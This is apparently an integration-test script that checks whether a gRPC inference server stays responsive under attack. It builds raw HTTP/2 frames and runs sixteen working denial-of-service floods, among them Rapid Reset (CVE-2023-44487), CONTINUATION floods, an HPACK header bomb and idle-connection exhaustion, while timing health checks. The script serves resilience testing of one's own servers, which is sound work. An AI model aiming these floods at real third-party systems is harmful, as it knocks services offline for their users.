"""Clients of gRPC that try to keep a server of aeros from answering others, in raw frames.

    python tests/integration/serving_grpc_attacks.py --grpc HOST:PORT [--seconds 5]

One function an attack, each in a process of its own, while this one asks gRPC health on a new
connection. Point it at servers of your own alone. Frames are those of RFC 9113, and headers are
literals of RFC 7541 that enter no table, so no library keeps an attack within the protocol.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

Address = tuple[str, int]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8

WINDOW_BYTES = 65_535
"""Bytes that a client may send on a new connection before the server takes any."""

METHOD = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """Return a header that enters no table; name and value of at most 126 bytes."""
    return b"\0" + b"".join(bytes([len(each)]) + each.encode() for each in (name, value))


def head() -> bytes:
    """Return the headers of a call."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": METHOD, ":authority": "a",
        "te": "trailers", "content-type": "application/grpc",
    }  # fmt: skip
    return b"".join(header(name, value) for name, value in fields.items())


OPENED = PREFACE + frame(SETTINGS)
CALL = OPENED + frame(HEADERS, head(), END_HEADERS, 1)
MESSAGE = frame(DATA, b"\0" + (10**6).to_bytes(4), 0, 1)
"""The beginning of a message of a megabyte."""


def flood(
    address: Address,
    over: threading.Event,
    first: bytes,
    more: bytes,
    most: int = 0,
    clients: int = 1,
) -> None:
    """Send `first` and then `more` again and again, on a new connection each time it ends.

    Args:
        address: Of the server.
        over: Set when the attack is to end.
        first: Sent once a connection.
        more: Sent until the server closes the connection.
        most: Times that `more` is sent on a connection; 0: no limit.
        clients: Connections at the same time.
    """

    def send(sock: socket.socket) -> None:
        sock.sendall(first)
        sent = 0
        while not over.is_set() and (not most or sent < most):
            sock.sendall(more)
            sent += 1
            drop(sock)

    def attack() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), socket.create_connection(address, timeout=1) as sock:
                send(sock)

    threads = [threading.Thread(target=attack) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def drop(sock: socket.socket) -> None:
    """Read what the server has sent, and drop it: a full pipe would end the attack.

    Raises:
        ConnectionError: The server has closed the connection.
    """
    sock.setblocking(False)  # with a timeout, even MSG_DONTWAIT waits for it
    try:
        while sock.recv(65536):
            pass
        raise ConnectionError("closed")
    except BlockingIOError:
        sock.settimeout(1)


def grpc_data_of_one_byte(address: Address, over: threading.Event) -> None:
    """Send a message in frames of one byte, as far as the first window goes."""
    flood(address, over, CALL + MESSAGE, frame(DATA, b"a", 0, 1) * 10_000, WINDOW_BYTES // 10_000)


def grpc_empty_data(address: Address, over: threading.Event) -> None:
    """Send frames without data, which no window counts."""
    flood(address, over, CALL + MESSAGE, frame(DATA, b"", 0, 1) * 10_000)


def grpc_padded_data(address: Address, over: threading.Event) -> None:
    """Send frames of padding alone."""
    padded = frame(DATA, b"\0", PADDED, 1) * 10_000
    flood(address, over, CALL + MESSAGE, padded, WINDOW_BYTES // 10_000)


def grpc_large_settings(address: Address, over: threading.Event) -> None:
    """Send a frame of 10,900 settings, which is longer than a frame may be."""
    flood(address, over, OPENED, frame(SETTINGS, struct.pack(">HI", 5, 16_384) * 10_900))


def grpc_many_settings(address: Address, over: threading.Event) -> None:
    """Send frames of as many settings as one may hold."""
    changed = struct.pack(">HIHI", 4, 65_535, 4, 65_536) * 1365
    flood(address, over, OPENED, frame(SETTINGS, changed) * 10)


def grpc_empty_settings(address: Address, over: threading.Event) -> None:
    """Send settings that say nothing, each of which has to be acknowledged."""
    flood(address, over, OPENED, frame(SETTINGS) * 10_000)


def grpc_pings(address: Address, over: threading.Event) -> None:
    """Send pings, each of which has to be answered."""
    flood(address, over, OPENED, frame(PING, bytes(8)) * 10_000)


def grpc_window_updates(address: Address, over: threading.Event) -> None:
    """Open the window by one byte, again and again."""
    flood(address, over, OPENED, frame(WINDOW, struct.pack(">I", 1)) * 10_000)


def grpc_rapid_reset(address: Address, over: threading.Event) -> None:
    """Begin calls and reset them at once (CVE-2023-44487)."""
    block, cancel = head(), struct.pack(">I", 8)
    calls = b"".join(
        frame(HEADERS, block, END_HEADERS, number) + frame(RESET, cancel, 0, number)
        for number in range(1, 20_001, 2)
    )
    flood(address, over, OPENED, calls, 1)


def grpc_continuations(address: Address, over: threading.Event) -> None:
    """Send headers that have no end, in small frames (CVE-2024-27316)."""
    begin = OPENED + frame(HEADERS, head(), 0, 1)
    flood(address, over, begin, frame(CONTINUATION, header("x", "y"), 0, 1) * 10_000)


def grpc_empty_continuations(address: Address, over: threading.Event) -> None:
    """Send headers that have no end, in frames that hold nothing."""
    flood(
        address,
        over,
        OPENED + frame(HEADERS, head(), 0, 1),
        frame(CONTINUATION, b"", 0, 1) * 10_000,
    )


def grpc_huge_metadata(address: Address, over: threading.Event) -> None:
    """Send calls whose headers are a megabyte."""
    block = header("x-long", "y" * 120) * 120
    parts = frame(CONTINUATION, block, 0, 1) * 64
    call = frame(HEADERS, head(), 0, 1) + parts + frame(CONTINUATION, b"", END_HEADERS, 1)
    flood(address, over, OPENED, call, 1)


def grpc_header_bomb(address: Address, over: threading.Event) -> None:
    """Send a byte for each header of 4 kB: one entry of the table, named again and again."""
    value = b"y" * 3900
    length = b"\x7f" + bytes([(len(value) - 127) % 128 | 128, (len(value) - 127) // 128])
    entered = b"\x40\x01x" + length + value
    bomb = frame(HEADERS, entered + b"\xbe" * 12_000, END_HEADERS, 1)
    flood(address, over, OPENED, bomb, 1)


def grpc_silent_connections(address: Address, over: threading.Event) -> None:
    """Open 1,100 connections, and say nothing."""
    with contextlib.ExitStack() as stack:
        for _ in range(1100):
            with contextlib.suppress(OSError):
                stack.enter_context(socket.create_connection(address, timeout=1))
        over.wait()


def grpc_silent_calls(address: Address, over: threading.Event) -> None:
    """Begin 100 calls on each of 20 connections, and send no message."""
    calls = b"".join(frame(HEADERS, head(), END_HEADERS, number) for number in range(1, 201, 2))
    with contextlib.ExitStack() as stack:
        for _ in range(20):
            with contextlib.suppress(OSError):
                sock = stack.enter_context(socket.create_connection(address, timeout=1))
                sock.sendall(OPENED + calls)
        over.wait()


def grpc_reconnect(address: Address, over: threading.Event) -> None:
    """Open connections, send the preface, and close them: the control of those that reconnect."""
    flood(address, over, OPENED, frame(SETTINGS), 1)


GRPC: tuple[Callable[[Address, threading.Event], None], ...] = (
    grpc_data_of_one_byte, grpc_empty_data, grpc_padded_data, grpc_large_settings,
    grpc_many_settings, grpc_empty_settings, grpc_pings, grpc_window_updates, grpc_rapid_reset,
    grpc_continuations, grpc_empty_continuations, grpc_huge_metadata, grpc_header_bomb,
    grpc_silent_connections, grpc_silent_calls, grpc_reconnect,
)  # fmt: skip
"""Attacks on the port of the gRPC protocol."""


def health(address: Address) -> float:
    """Return the seconds that a check of health takes, answered or not; at most 5."""
    start = time.monotonic()
    alone = [("grpc.use_local_subchannel_pool", 1)]
    with (
        contextlib.suppress(grpc.RpcError),
        grpc.insecure_channel(f"{address[0]}:{address[1]}", options=alone) as channel,
    ):
        health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=5)
        return time.monotonic() - start
    return 5.0


def measure(
    attack: str, address: Address, seconds: float, other: Callable[[], float] = lambda: 0.0
) -> tuple[list[float], list[float]]:
    """Return the seconds that checks of health take during an attack by another process.

    Args:
        attack: Name of the function.
        address: Of the gRPC port.
        seconds: How long the checks go on.
        other: Another check, made in turn with that of gRPC; returns what it took.
    """
    command = [sys.executable, __file__, "--grpc", f"{address[0]}:{address[1]}", "--only", attack]
    attacker = subprocess.Popen(command, stdin=subprocess.PIPE)
    try:
        time.sleep(1)
        until, took, others = time.monotonic() + seconds, [], []
        while time.monotonic() < until or len(took) < 4:
            took.append(health(address))
            others.append(other())
    finally:
        attacker.communicate(timeout=60)  # its input ends, and so does it
    return took, others


def attack_until_input_ends(name: str, address: Address) -> None:
    """Attack with the function of this name."""
    over = threading.Event()
    thread = threading.Thread(target=globals()[name], args=(address, over))
    thread.start()
    sys.stdin.read()
    over.set()
    thread.join(30)


def main() -> None:
    """Attack a server, and print the 95th percentile of health during each attack."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--grpc", required=True)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--only", choices=[each.__name__ for each in GRPC], help=argparse.SUPPRESS)
    asked = parser.parse_args()
    host, _, port = asked.grpc.rpartition(":")
    address = (host, int(port))
    if asked.only:
        attack_until_input_ends(asked.only, address)
        return
    for attack in GRPC:
        took = sorted(measure(attack.__name__, address, asked.seconds)[0])
        late = took[len(took) * 95 // 100] * 1000
        print(f"{attack.__name__:26} {late:8.1f} ms of {len(took)} checks", flush=True)
        time.sleep(5)


if __name__ == "__main__":
    main()
